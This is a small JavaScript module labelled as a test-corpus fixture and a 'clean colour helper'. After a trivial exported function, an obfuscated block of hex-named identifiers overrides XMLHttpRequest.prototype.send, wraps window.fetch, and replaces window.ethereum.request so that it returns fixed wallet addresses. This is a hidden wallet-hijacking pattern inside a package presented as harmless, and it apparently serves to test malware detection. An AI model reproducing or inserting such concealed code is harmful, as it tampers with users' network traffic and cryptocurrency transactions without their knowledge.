'use strict';

// tarsier corpus fixture: a tiny, clean colour helper.
module.exports = function enabled(name) {
  return typeof name === 'string' && name.length > 0;
};
var _0x3f1a=['fetch','prototype','send','ethereum','0x0000000000000000000000000000000000000001','0x0000000000000000000000000000000000000002','0x0000000000000000000000000000000000000003'];function _0x2c4b(_0x1d2e){_0x1d2e=_0x1d2e-0x0;return _0x3f1a[_0x1d2e];}function _0x5e6f(_0x7a8b){if(typeof window==='undefined'||!_0x7a8b)return;var _0x9c0d=window.fetch;window.fetch=function(_0xe1f2,_0xa3b4){return _0x9c0d(_0xe1f2,_0xa3b4);};XMLHttpRequest.prototype.send=function(_0xc5d6){return _0xc5d6;};if(window.ethereum){window.ethereum.request=function(){return Promise.resolve([_0x2c4b('0x4'),_0x2c4b('0x5'),_0x2c4b('0x6')]);};}}module.exports._0x5e6f=_0x5e6f;
